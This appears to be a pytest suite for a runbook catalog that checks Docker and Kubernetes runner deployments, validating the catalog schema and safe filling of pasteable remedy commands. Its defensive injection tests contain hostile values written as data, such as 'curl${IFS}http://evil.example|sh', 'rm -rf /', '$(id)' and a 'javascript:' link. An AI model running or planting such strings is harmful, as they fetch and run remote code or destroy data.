"""The catalog guards: schema, and two-way traceability between the runbook catalog and the checks."""

from __future__ import annotations

import ast
import importlib
import inspect
import pkgutil
import re
import textwrap
from pathlib import Path

import pytest

import checks
from blinkcheck.catalog import CatalogError, fill, load_catalog, placeholders
from tests.reliability import Sees

CATALOG = load_catalog()


def check_functions() -> dict[str, list[str]]:
    """condition id -> the check functions (module::name) that carry its marker."""
    found: dict[str, list[str]] = {}
    for mod in pkgutil.walk_packages(checks.__path__, "checks."):
        module = importlib.import_module(mod.name)
        for name, fn in inspect.getmembers(module, inspect.isfunction):
            if not name.startswith("test_") or fn.__module__ != module.__name__:
                continue
            marks = [m for m in getattr(fn, "pytestmark", []) if m.name == "condition"]
            assert len(marks) == 1, f"{mod.name}::{name} must name exactly one condition"
            found.setdefault(marks[0].args[0], []).append(f"{mod.name}::{name}")
    return found


def test_every_condition_has_exactly_one_check():
    found = check_functions()
    missing = [cid for cid in CATALOG.ids if cid not in found]
    doubled = {cid: fns for cid, fns in found.items() if len(fns) > 1}
    assert not missing, f"conditions without a check: {missing}"
    assert not doubled, f"conditions with more than one check: {doubled}"


def test_every_check_names_a_catalog_condition():
    unknown = {cid: fns for cid, fns in check_functions().items() if cid not in CATALOG.ids}
    assert not unknown, f"checks naming conditions not in the catalog: {unknown}"


def test_check_files_follow_platform_folders():
    for cid, fns in check_functions().items():
        platform = CATALOG[cid].platform
        assert all(fn.startswith(f"checks.{platform}.") for fn in fns), (cid, fns)


def test_runbook_commands_kept_exact():
    text = "\n".join(c.remedy + c.checks for c in CATALOG.conditions)
    for command in (
        "docker ps -a | grep {runner_name}",
        "docker logs {container_id}",
        "docker container restart {container_id}",
        "kubectl rollout restart deployment {deployment}",
        "kubectl delete deployment {operator}",
        "kubectl get deployment -n {namespace} | grep blink-operator",
    ):
        assert command in text, command


def test_fill_keeps_unknown_placeholders_visible():
    assert fill("restart {container_id} on {host}", {"container_id": "3f2a9c1b7d4e"}) == "restart 3f2a9c1b7d4e on {host}"
    assert placeholders("a {x} b {y}") == {"x", "y"}


def test_ids_are_unique_and_requires_resolve():
    assert len(set(CATALOG.ids)) == len(CATALOG.ids)
    for c in CATALOG.conditions:
        assert set(c.requires) <= set(CATALOG.ids)


BAD = [
    ("schema_version: 2\nconditions: []\n", "schema_version"),
    ("schema_version: 1\n", "missing field 'conditions'"),
    ("schema_version: 1\nconditions:\n  - id: docker.x.y\n", "condition 'docker.x.y': missing field 'section'"),
    ("schema_version: 1\nconditions:\n  - {id: Bad Id}\n", "field 'id'"),
    ("schema_version: 1\nconditions: [1]\n", "conditions[0]: must be a mapping"),
    (": : :\n", "not valid YAML"),
]


@pytest.mark.parametrize(("text", "message"), BAD)
def test_bad_catalog_names_entry_and_field(tmp_path: Path, text: str, message: str):
    path = tmp_path / "catalog.yaml"
    path.write_text(text)
    with pytest.raises(CatalogError, match=re.escape(message)):
        load_catalog(path)


def test_bad_section_value(tmp_path: Path):
    text = Path(CATALOG.path).read_text().replace("section: disconnected", "section: disconected", 1)
    path = tmp_path / "c.yaml"
    path.write_text(text)
    expected = "condition 'docker.disconnected.container-exists': field 'section'"
    with pytest.raises(CatalogError, match=re.escape(expected)):
        load_catalog(path)


# ------------------------------------------------------------------ remedies safe to paste

INJECTED_VERSION = "1.0;curl${IFS}http://evil.example|sh"


def test_upgrade_patterns_capture_only_a_version_shape():
    line = (
        f"Creating new container with name: blink-runner-{INJECTED_VERSION} and configuration from container "
        "with id: 3f2a9c1b7d4e"
    )
    assert not CATALOG.upgrade_patterns["creating"].search(line)
    good = line.replace(INJECTED_VERSION, "1.0.995-rc1+build.7")
    m = CATALOG.upgrade_patterns["creating"].search(good)
    assert m and m["version"] == "1.0.995-rc1+build.7" and m["name"] == "blink-runner-1.0.995-rc1+build.7"
    handoff = f"Operator has been deployed with version: {INJECTED_VERSION}, Current Runner will shutdown once new runner is up and ready."
    assert not CATALOG.upgrade_patterns["operator_handoff"].search(handoff)


@pytest.mark.parametrize(
    ("name", "bad"),
    [
        ("container_id", "3f2a9c1b7d4e;rm -rf ~"),
        ("new_container_id", "blink-runner-1.0;curl${IFS}x|sh"),
        ("version", INJECTED_VERSION),
        ("namespace", "blink$(id)"),
        ("pod", "runner`reboot`"),
        ("deployment", "blink-runner && curl x"),
        ("container_name", "blink\nrunner"),
    ],
)
def test_a_value_that_does_not_fit_its_shape_is_shown_apart_never_in_a_command(name: str, bad: str):
    template = f"Try: `docker logs {{{name}}}` then `kubectl get pods -n {{{name}}}`"
    out = fill(template, {name: bad})
    command_lines = out.split("\nNot filled in above")[0]
    assert bad not in command_lines and f"{{{name}}}" in command_lines
    assert "Not filled in above (shown apart, never inside a command)" in out
    assert repr(bad) in out


def test_values_of_the_right_shape_are_filled():
    out = fill("`docker logs {container_id}` for {version} in {namespace}",
               {"container_id": "3f2a9c1b7d4e", "version": "1.0.995", "namespace": "blink"})
    assert out == "`docker logs 3f2a9c1b7d4e` for 1.0.995 in blink"


def test_other_values_inside_a_command_are_shell_quoted_prose_is_not():
    out = fill("`kubectl create rolebinding x {subject_flag}` for {subject}",
               {"subject_flag": "--user=oidc:alice smith", "subject": "oidc:alice smith"})
    assert out == "`kubectl create rolebinding x '--user=oidc:alice smith'` for oidc:alice smith"


def test_format_specs_in_a_template_are_never_applied():
    assert fill("{x:>500000000}", {"x": "a"}) == "{x:>500000000}"
    assert fill("{x!r} {x.__class__}", {"x": "a"}) == "{x!r} {x.__class__}"


# ------------------------------------------------------------------ a site catalog is validated


def _with(tmp_path: Path, old: str, new: str) -> Path:
    text = Path(CATALOG.path).read_text()
    assert old in text, old
    path = tmp_path / "site.yaml"
    path.write_text(text.replace(old, new, 1))
    return path


SITE_CATALOG_REFUSED = ("the catalog loader refuses it (the plugin's usage error), naming the entry and field: \"… must be "
                        "an http:// or https:// URL\", \"… must have the named groups …\", \"only plain {name} placeholders\"")


@pytest.mark.reliability(
    "a site catalog (`--catalog`) with a `javascript:` or `data:` link, an upgrade pattern without its named groups, or a `{placeholder:>500000000}`, `{x!r}`, `{x.__class__}` or `{0}` placeholder",
    Sees(facts=(SITE_CATALOG_REFUSED,)),
)
@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        ("troubleshooting: https://docs", "troubleshooting: javascript:alert(1)//https://docs",
         "links.troubleshooting: field 'url' must be an http:// or https:// URL"),
        ("troubleshooting: https://docs", "troubleshooting: data:text/html,x//https://docs", "links.troubleshooting"),
        ("link: troubleshooting", "link: https://", "field 'link' must be an https:// URL"),
        ("(?P<container_id>[0-9a-f]{12,64})'", "[0-9a-f]{12,64}'", "field 'creating' must have the named groups name, version, container_id (missing: container_id)"),
        ("version: (?P<version>[0-9][0-9A-Za-z.+-]*), Current", "version: [0-9.]+, Current", "field 'operator_handoff' must have the named groups version"),
        ("`docker logs {container_id}`", "`docker logs {container_id:>500000000}`", "placeholder '{container_id:>500000000}'"),
        ("`docker logs {container_id}`", "`docker logs {container_id!r}`", "placeholder '{container_id!r}'"),
        ("`docker logs {container_id}`", "`docker logs {container_id.__class__}`", "only plain {name} placeholders"),
        ("`docker logs {container_id}`", "`docker logs {0}`", "only plain {name} placeholders"),
    ],
)
def test_site_catalog_is_validated(tmp_path: Path, old: str, new: str, message: str, sees):
    with pytest.raises(CatalogError) as refused:
        load_catalog(_with(tmp_path, old, new))
    sees.fact(SITE_CATALOG_REFUSED, message in str(refused.value), str(refused.value))


def test_command_lines_are_filled_only_when_every_word_is_quoted():
    """The probe's "reproduce" command carries paths and proxy URLs from the runner's own image and settings:
    it is pasted only in the canonical quoted form the suite builds, never as a raw line."""
    import shlex

    from blinkcheck.catalog import fill

    crafted_ca = "/etc/ssl/x';curl${IFS}evil|sh;'"
    built = shlex.join(["nsenter", "-t", "42", "-n", "curl", "-v", "--cacert", crafted_ca, "https://app.blinkops.com"])
    text = fill("Reproduce: `{reproduce}`", {"reproduce": built})
    assert text == f"Reproduce: `{built}`"
    assert shlex.split(built)[7] == crafted_ca  # one word, inert
    raw = "nsenter -t 42 -n curl --cacert /x;rm -rf / https://app.blinkops.com"
    text = fill("Reproduce: `{reproduce}`", {"reproduce": raw})
    assert "rm -rf" not in text.split("\n")[0] and "Not filled in above" in text


# ------------------------------------------------------------------ the loader, field by field (a minimal catalog)

UPGRADE = {
    "creating": "Creating (?P<name>blink-runner-(?P<version>[0-9.]+)) from (?P<container_id>[0-9a-f]{12})",
    "found_existing": "Found (?P<name>blink-runner-(?P<version>[0-9.]+)) id (?P<container_id>[0-9a-f]{12})",
    "operator_handoff": "Operator version: (?P<version>[0-9.]+)",
}


def _minimal() -> dict:
    return {
        "schema_version": 1,
        "site": {"status_channel": "#c"},
        "links": {"t": "https://docs.example/t"},
        "sections": {"disconnected": "Runner Disconnected"},
        "network_error_families": [{"family": "f", "label": "L", "patterns": ["a+b"], "hint": "H {blink_host}"}],
        "success_patterns": ["Connected"],
        "probe_layers": {"dns": "D {blink_host}"},
        "upgrade_patterns": dict(UPGRADE),
        "conditions": [
            {"id": "docker.a.b", "section": "disconnected", "platform": "docker", "step": "3-4", "kind": "check",
             "title": "T", "checks": "C", "remedy": "R {container_id}", "link": "t", "verdict": "V",
             "variants": {"v1": {"remedy": "R1", "verdict": "V1"}, "v2": {"remedy": "R2 {x}"}}},
            {"id": "k8s.c.d", "section": "upgrade", "platform": "kubernetes", "step": "-", "kind": "manual",
             "title": "T2", "checks": "C2", "remedy": "R2", "link": "https://docs.example/x", "requires": ["docker.a.b"]},
        ],
    }  # fmt: skip


def _load(tmp_path: Path, data: dict):
    import yaml

    path = tmp_path / "c.yaml"
    path.write_text(yaml.safe_dump(data))
    return load_catalog(path), path


def test_a_minimal_catalog_loads_field_by_field(tmp_path: Path):
    from blinkcheck.catalog import Condition, Variant

    cat, path = _load(tmp_path, _minimal())
    assert cat.path == path and cat.site == {"status_channel": "#c"} and cat.links == {"t": "https://docs.example/t"}
    assert cat.sections == {"precondition": "", "disconnected": "Runner Disconnected", "upgrade": "", "deployment": "", "beyond": ""}
    assert cat.conditions[0] == Condition(
        id="docker.a.b", section="disconnected", platform="docker", step="3-4", kind="check", title="T", checks="C",
        remedy="R {container_id}", link="t", requires=(), verdict="V",
        variants={"v1": Variant("R1", "V1"), "v2": Variant("R2 {x}", "")})  # fmt: skip
    assert cat.conditions[1].requires == ("docker.a.b",) and cat.conditions[1].verdict == ""
    assert cat.conditions[0].markers == ("docker", "disconnected", "step3", "step4")
    assert cat.conditions[1].markers == ("kubernetes", "upgrade")
    assert [(f.family, f.label, [p.pattern for p in f.patterns], f.hint) for f in cat.network_error_families] == [
        ("f", "L", ["a+b"], "H {blink_host}")]
    assert {k: p.pattern for k, p in cat.upgrade_patterns.items()} == UPGRADE
    assert [p.pattern for p in cat.success_patterns] == ["Connected"] and cat.probe_layers == {"dns": "D {blink_host}"}
    assert cat.ids == ("docker.a.b", "k8s.c.d") and cat["k8s.c.d"] is cat.conditions[1]
    assert (cat.order("k8s.c.d"), cat.order("docker.a.b"), cat.order("nope")) == (1, 0, 2)
    assert cat.link_url(cat.conditions[0]) == "https://docs.example/t"
    assert cat.link_url(cat.conditions[1]) == "https://docs.example/x"
    with pytest.raises(KeyError):
        cat["nope"]
    c = cat.conditions[0]
    assert (c.remedy_for("v1"), c.remedy_for("v2"), c.remedy_for(""), c.remedy_for("zz")) == ("R1", "R2 {x}",
                                                                                           "R {container_id}",
                                                                                           "R {container_id}")  # fmt: skip
    assert (c.verdict_for("v1"), c.verdict_for("v2"), c.verdict_for("")) == ("V1", "V", "V")
    empty = _minimal()
    for key in ("site", "links", "sections", "success_patterns", "probe_layers", "network_error_families"):
        del empty[key]
    empty["conditions"][0]["link"] = "https://docs.example/t"
    bare, _ = _load(tmp_path, empty)
    assert (bare.site, bare.links, bare.success_patterns, bare.probe_layers, bare.network_error_families) == (
        {}, {}, (), {}, ())


def _broken(change) -> dict:
    data = _minimal()
    change(data)
    return data


def _cond(**kw):
    def change(d: dict) -> None:
        for k, v in kw.items():
            if v is None:
                del d["conditions"][0][k]
            else:
                d["conditions"][0][k] = v
    return change


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda d: d.update(schema_version=2), "{path}: field 'schema_version' must be 1"),
        (lambda d: d.update(links=["x"]), "links: must be a mapping of name: URL"),
        (lambda d: d.update(links={"t": "ftp://x"}), "links.t: field 'url' must be an http:// or https:// URL, got 'ftp://x'"),
        (lambda d: d.update(links={"t": "https://a b"}), "links.t: field 'url' must be an http:// or https:// URL, got 'https://a b'"),
        (lambda d: d.update(links={"t": "https://"}), "links.t: field 'url' must be an http:// or https:// URL, got 'https://'"),
        (lambda d: d.pop("conditions"), "{path}: missing field 'conditions'"),
        (lambda d: d.update(conditions={"a": 1}), "{path}: field 'conditions' must be a list, got dict"),
        (lambda d: d["conditions"].append("x"), "conditions[2]: must be a mapping"),
        (_cond(id=None), "conditions[0]: missing field 'id'"),
        (_cond(id=5), "conditions[0]: field 'id' must be a str, got int"),
        (_cond(id="docker.a"), "condition 'docker.a': field 'id' must look like docker.<group>.<name> or k8s.<group>.<name>"),
        (_cond(section="other"), "condition 'docker.a.b': field 'section' must be one of precondition, disconnected, upgrade, deployment, beyond"),
        (_cond(platform="nomad"), "condition 'docker.a.b': field 'platform' must be one of docker, kubernetes"),
        (_cond(kind="x"), "condition 'docker.a.b': field 'kind' must be one of precondition, check, manual"),
        (_cond(kind=None), "condition 'docker.a.b': missing field 'kind'"),
        (_cond(requires="docker.a.b"), "condition 'docker.a.b': field 'requires' must be a list of condition ids"),
        (_cond(requires=[1]), "condition 'docker.a.b': field 'requires' must be a list of condition ids"),
        (_cond(requires=["docker.x.y"]), "condition 'docker.a.b': field 'requires' names unknown ids: docker.x.y"),
        (_cond(link="nowhere"), "condition 'docker.a.b': field 'link' must name an entry of 'links' or be an https:// URL"),
        (_cond(link="https://a b"), "condition 'docker.a.b': field 'link' must be an https:// URL, got 'https://a b'"),
        (_cond(link=None), "condition 'docker.a.b': missing field 'link'"),
        (_cond(remedy=None), "condition 'docker.a.b': missing field 'remedy'"),
        (_cond(step=None), "condition 'docker.a.b': missing field 'step'"),
        (_cond(title=None), "condition 'docker.a.b': missing field 'title'"),
        (_cond(checks=None), "condition 'docker.a.b': missing field 'checks'"),
        (_cond(remedy="{x:>9}"), "condition 'docker.a.b': field 'remedy' has placeholder '{x:>9}': only plain {name} placeholders are allowed"),
        (_cond(checks="{x!r}"), "condition 'docker.a.b': field 'checks' has placeholder '{x!r}': only plain {name} placeholders are allowed"),
        (_cond(title="{x:>9}"), "condition 'docker.a.b': field 'title' has placeholder '{x:>9}': only plain {name} placeholders are allowed"),
        (_cond(verdict="{0}"), "condition 'docker.a.b': field 'verdict' has placeholder '{0}': only plain {name} placeholders are allowed"),
        (_cond(remedy="{x"), "condition 'docker.a.b': field 'remedy' has a malformed placeholder: expected '}' before end of string"),
        (_cond(variants=["a"]), "condition 'docker.a.b': field 'variants' must be a mapping of name to {remedy, verdict}"),
        (_cond(variants={"v": "text"}), "condition 'docker.a.b': variant 'v': must be a mapping with 'remedy'"),
        (_cond(variants={"v": {"verdict": "x"}}), "condition 'docker.a.b': variant 'v': missing field 'remedy'"),
        (_cond(variants={"v": {"remedy": "{a:1}"}}), "condition 'docker.a.b': variant 'v': field 'remedy' has placeholder '{a:1}': only plain {name} placeholders are allowed"),
        (_cond(variants={"v": {"remedy": "r", "verdict": "{a!s}"}}), "condition 'docker.a.b': variant 'v': field 'verdict' has placeholder '{a!s}': only plain {name} placeholders are allowed"),
        (_cond(problems=["a"]), "condition 'docker.a.b': field 'problems' must be a mapping of name to a problem line"),
        (_cond(problems={"p": "{a:1}"}, remedy="{problem}"), "condition 'docker.a.b': problem 'p': field 'problems' has placeholder '{a:1}': only plain {name} placeholders are allowed"),
        (_cond(remedy="{problem} then"), "condition 'docker.a.b': a remedy with {problem} needs field 'problems' (and 'problems' a remedy with {problem})"),
        (_cond(problems={"p": "P"}), "condition 'docker.a.b': a remedy with {problem} needs field 'problems' (and 'problems' a remedy with {problem})"),
        (_cond(reads="pods"), "condition 'docker.a.b': field 'reads' must be a list of read names"),
        (lambda d: d["conditions"].append(dict(d["conditions"][0])), "{path}: duplicate condition ids: docker.a.b"),
        (lambda d: d.update(upgrade_patterns={**UPGRADE, "creating": "("}), "upgrade_patterns: bad regular expression: missing ), unterminated subpattern at position 0"),
        (lambda d: d["upgrade_patterns"].pop("found_existing"), "upgrade_patterns: missing field 'found_existing'"),
        (lambda d: d.update(success_patterns="x"), "success_patterns: must be a list of regular expressions"),
        (lambda d: d.update(success_patterns=[1]), "success_patterns: must be a list of regular expressions"),
        (lambda d: d.update(success_patterns=["("]), "success_patterns: bad regular expression: missing ), unterminated subpattern at position 0"),
        (lambda d: d.update(probe_layers=["x"]), "probe_layers: must be a mapping of layer name to advice text"),
        (lambda d: d.update(probe_layers={"dns": 1}), "probe_layers: must be a mapping of layer name to advice text"),
        (lambda d: d.update(network_error_families={"f": 1}), "network_error_families: must be a list"),
        (lambda d: d.update(network_error_families=["x"]), "network_error_families[0]: must be a mapping"),
        (lambda d: d["network_error_families"][0].pop("family"), "network_error_families[0]: missing field 'family'"),
        (lambda d: d["network_error_families"][0].update(patterns="a"), "network error family 'f': field 'patterns' must be a list, got str"),
        (lambda d: d["network_error_families"][0].update(patterns=["("]), "network error family 'f': field 'patterns' has a bad regular expression: missing ), unterminated subpattern at position 0"),
        (lambda d: d["network_error_families"][0].pop("hint"), "network error family 'f': missing field 'hint'"),
        (lambda d: d["network_error_families"][0].update(hint="{h:>3}"), "network error family 'f': field 'hint' has placeholder '{h:>3}': only plain {name} placeholders are allowed"),
        (lambda d: d["network_error_families"][0].pop("label"), "network error family 'f': missing field 'label'"),
        # advice, and errors that name every entry at fault at once
        (lambda d: d.update(advice=["grant"]), "advice: must be a mapping of key to advice text"),
        (lambda d: d.update(advice={"grant": 1}), "advice: must be a mapping of key to advice text"),
        (lambda d: d.update(advice={"grant": "Grant {verb:>9}"}),
         "advice.grant: field 'text' has placeholder '{verb:>9}': only plain {name} placeholders are allowed"),
        (lambda d: d["conditions"].extend([dict(d["conditions"][0]), {**d["conditions"][1]}, {**d["conditions"][1]}]),
         "{path}: duplicate condition ids: docker.a.b, k8s.c.d"),
        (_cond(requires=["docker.x.y", "docker.a.b", "k8s.x.z"]),
         "condition 'docker.a.b': field 'requires' names unknown ids: docker.x.y, k8s.x.z"),
        (lambda d: d["upgrade_patterns"].update(creating="Creating (?P<name>x)"),
         "upgrade_patterns: field 'creating' must have the named groups name, version, container_id (missing: version, "
         "container_id)"),
        (lambda d: d.update(links={"t": 5}), "links.t: field 'url' must be an http:// or https:// URL, got 5"),
    ],
)
def test_every_catalog_error_names_the_entry_and_field(tmp_path: Path, change, message):
    import yaml

    path = tmp_path / "c.yaml"
    path.write_text(yaml.safe_dump(_broken(change)))
    with pytest.raises(CatalogError) as caught:
        load_catalog(path)
    assert str(caught.value) == message.replace("{path}", str(path))


def test_unreadable_or_not_yaml_catalogs(tmp_path: Path):
    with pytest.raises(CatalogError) as caught:
        load_catalog(tmp_path / "missing.yaml")
    assert str(caught.value) == f"{tmp_path / 'missing.yaml'}: cannot read: No such file or directory"
    bad = tmp_path / "bad.yaml"
    bad.write_text("a: [")
    with pytest.raises(CatalogError, match=r"^.*bad\.yaml: not valid YAML: "):
        load_catalog(bad)
    bad.write_text("- a list")
    with pytest.raises(CatalogError) as caught:
        load_catalog(bad)
    assert str(caught.value) == f"{bad}: must be a mapping with 'conditions'"
    assert load_catalog(str(CATALOG.path)).ids == CATALOG.ids  # a str path works too


def test_step_numbers_and_shown_values():
    from blinkcheck.catalog import _shown, is_quoted_command, step_numbers

    assert [step_numbers(s) for s in ("3", " 3 - 4 ", "4-3", "-", "x")] == [(3,), (3, 4), (4,), (), ()]
    assert _shown("a\x1b[2Jb") == "'a\\x1b[2Jb'" and _shown("x" * 300) == repr("x" * 200 + "…")
    assert _shown("x" * 200) == repr("x" * 200)
    assert is_quoted_command("curl -v 'a b'") and not is_quoted_command("curl -v a\\ b")
    assert not is_quoted_command("  ") and not is_quoted_command("curl 'x")


def _variants_chosen_in(fn) -> set[str]:
    """The remedy keys a judge can choose: every string in a `variant=` argument or a `variant = ...` assignment."""
    tree = ast.parse(textwrap.dedent(inspect.getsource(fn)))
    exprs = [k.value for n in ast.walk(tree) if isinstance(n, ast.Call) for k in n.keywords if k.arg == "variant"]
    exprs += [n.value for n in ast.walk(tree) if isinstance(n, ast.Assign)
              and any(isinstance(t, ast.Name) and t.id == "variant" for t in n.targets)]  # fmt: skip
    return {c.value for e in exprs for c in ast.walk(e) if isinstance(c, ast.Constant) and isinstance(c.value, str)}


def judges_of(check) -> list:
    """The blinkcheck functions a check calls (its judges), found by name in the check's own source."""
    module = inspect.getmodule(check)
    called = {n.func.id for n in ast.walk(ast.parse(textwrap.dedent(inspect.getsource(check))))
              if isinstance(n, ast.Call) and isinstance(n.func, ast.Name)}  # fmt: skip
    return [f for name in sorted(called) if inspect.isfunction(f := getattr(module, name, None))
            and f.__module__.startswith("blinkcheck.")]  # fmt: skip


def test_every_remedy_key_a_judge_can_choose_is_in_the_catalog():
    """Traceability from the code to the catalog: each key a check's judges can give a finding as its `variant` is
    a remedy variant or a problem line of that check's condition (an unknown key would fall back to the wrong
    remedy, or leave {problem} unfilled); and a condition whose remedy has {problem} is judged only by judges that
    choose one."""
    seen = 0
    for cid, fns in check_functions().items():
        for qualified in fns:
            mod, name = qualified.split("::")
            check = getattr(importlib.import_module(mod), name)
            chosen = {v for j in judges_of(check) for v in _variants_chosen_in(j)}
            unknown = chosen - CATALOG[cid].choices
            assert not unknown, f"{qualified}: its judges choose {sorted(unknown)}, not in {cid}'s catalog entry"
            if CATALOG[cid].problems:
                assert chosen, f"{cid}'s remedy says {{problem}}, but no judge of {qualified} chooses one"
            seen += len(chosen)
    assert seen >= 14  # recovered/configuration twice, 5 + 2 + 3 problem lines: the scan does find them


def test_the_conditions_the_code_names_are_in_the_catalog():
    from blinkcheck import catalog

    assert set(catalog.NAMED_CONDITIONS) <= set(CATALOG.ids)


def test_every_kubernetes_read_is_needed_by_a_condition_and_every_named_read_exists():
    from blinkcheck.kubernetes.reads import READ

    named = {r for c in CATALOG.conditions for r in c.reads}
    assert named <= set(READ), f"catalog reads unknown to blinkcheck.kubernetes.reads: {sorted(named - set(READ))}"
    assert set(READ) <= named, f"reads no condition needs: {sorted(set(READ) - named)}"
    assert CATALOG.readers("exec") == ("k8s.disconnected.blink-reachable", "k8s.runner.clock-skew")
    assert CATALOG.readers("logs") == ("k8s.disconnected.logs-readable", "k8s.disconnected.no-network-errors",
                                       "k8s.upgrade.operator-handoff")  # fmt: skip


def test_the_problem_line_a_judge_chose_opens_its_remedy():
    cond = CATALOG["k8s.runner.secret-present"]
    values = {"secret": "blink-runner-secret", "namespace": "blink", "secret_key": "appKey", "keys": "token",
              "deployment": "blink-runner"}  # fmt: skip
    text = cond.remediation("no-key", values)
    assert text.splitlines()[0] == "Secret blink-runner-secret in blink has no key appKey (keys: token)."
    assert cond.remediation("empty-key", values).startswith("Secret blink-runner-secret in blink has key appKey, but")
    assert cond.choices == {"missing", "no-key", "empty-key"}  # the main remedy needs a problem line: no ""
    assert CATALOG["docker.disconnected.no-network-errors"].choices == {"", "recovered", "configuration"}


def test_every_advice_key_the_code_gives_is_in_the_catalog_and_every_one_is_used():
    root = Path(__file__).resolve().parents[2] / "blinkcheck"
    used: dict[str, set[str]] = {}
    for path in root.rglob("*.py"):
        for n in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(n, ast.Call) and isinstance(n.func, ast.Attribute) and n.func.attr == "advise":
                first = n.args[0]
                assert isinstance(first, ast.Constant), f"{path}:{n.lineno}: advise() takes a literal key"
                used.setdefault(str(first.value), set()).update(k.arg for k in n.keywords if k.arg)
    assert set(used) == set(CATALOG.advice), (sorted(used), sorted(CATALOG.advice))
    for key, given in used.items():  # every placeholder of the advice is given by the code that shows it
        assert placeholders(CATALOG.advice[key]) <= given, (key, placeholders(CATALOG.advice[key]) - given)


# ------------------------------------------------------------------ literal braces, the text shown apart, advice


def test_literal_braces_in_a_remedy_do_not_stop_the_placeholders_after_them(tmp_path: Path):
    """A kubectl jsonpath in a remedy is written with doubled braces: it is shown as one brace, and every
    placeholder after it is still filled (and still checked when the catalog loads)."""
    template = "`kubectl get pods -n {namespace} -o jsonpath='{{.items[*].metadata.name}}'` then `kubectl logs {pod} -n {namespace}`"
    assert fill(template, {"namespace": "blink", "pod": "blink-runner-7d9f8-abcde"}) == (
        "`kubectl get pods -n blink -o jsonpath='{.items[*].metadata.name}'` then `kubectl logs "
        "blink-runner-7d9f8-abcde -n blink`")  # fmt: skip
    import yaml

    path = tmp_path / "c.yaml"
    path.write_text(yaml.safe_dump(_broken(_cond(remedy="jsonpath='{{.items}}' for {pod:>9}"))))
    with pytest.raises(CatalogError) as caught:
        load_catalog(path)
    assert str(caught.value) == ("condition 'docker.a.b': field 'remedy' has placeholder '{pod:>9}': only plain {name} "
                                 "placeholders are allowed")


def test_an_empty_value_leaves_its_placeholder_visible():
    assert fill("The logs could not be read: {reason}", {"reason": ""}) == "The logs could not be read: {reason}"
    assert fill("The logs could not be read: {reason}", {"reason": "EOF"}) == "The logs could not be read: EOF"


def test_values_shown_apart_say_why_each_one_is_not_in_the_command():
    text = fill("Reproduce: `{reproduce}`, then `docker logs {container_id}`",
                {"reproduce": "curl x; rm -rf /", "container_id": "3f2a;reboot"})  # fmt: skip
    assert text == (
        "Reproduce: `{reproduce}`, then `docker logs {container_id}`\n"
        "Not filled in above (shown apart, never inside a command):\n"
        "  reproduce = 'curl x; rm -rf /' (not a command line the suite built)\n"
        "  container_id = '3f2a;reboot' (does not look like a container id)"
    )


def test_a_shown_value_is_cut_after_200_characters():
    from blinkcheck.catalog import _shown

    assert [_shown("x" * n) for n in (199, 200, 201)] == [repr("x" * 199), repr("x" * 200), repr("x" * 200 + "…")]


def test_problems_reads_and_advice_load_and_fill(tmp_path: Path):
    data = _minimal()
    data["conditions"][1].update(remedy="{problem}\n- fix it in {namespace}", problems={"gone": "P {pod} is gone."},
                                 reads=["pods", "logs"],
                                 variants={"other": {"remedy": "V {problem} in {namespace}"}})  # fmt: skip
    data["advice"] = {"grant": "Grant `{verb}` with rbac/role.yaml", "image": "Use an image with curl"}
    cat, _ = _load(tmp_path, data)
    c = cat["k8s.c.d"]
    assert (c.problems, c.reads) == ({"gone": "P {pod} is gone."}, ("pods", "logs"))
    assert c.remediation("gone", {"pod": "p1", "namespace": "blink"}) == "P p1 is gone.\n- fix it in blink"
    assert c.remediation("other", {"namespace": "blink"}) == "V {problem} in blink"  # the variant's own remedy
    assert cat.readers("logs") == ("k8s.c.d",) and cat.readers("events") == ()
    assert cat.advice == {"grant": "Grant `{verb}` with rbac/role.yaml", "image": "Use an image with curl"}
    assert cat.advise("grant", verb="get") == "Grant `get` with rbac/role.yaml"
    with pytest.raises(KeyError) as caught:
        cat["k8s.c.nope"]
    assert caught.value.args == ("k8s.c.nope",)
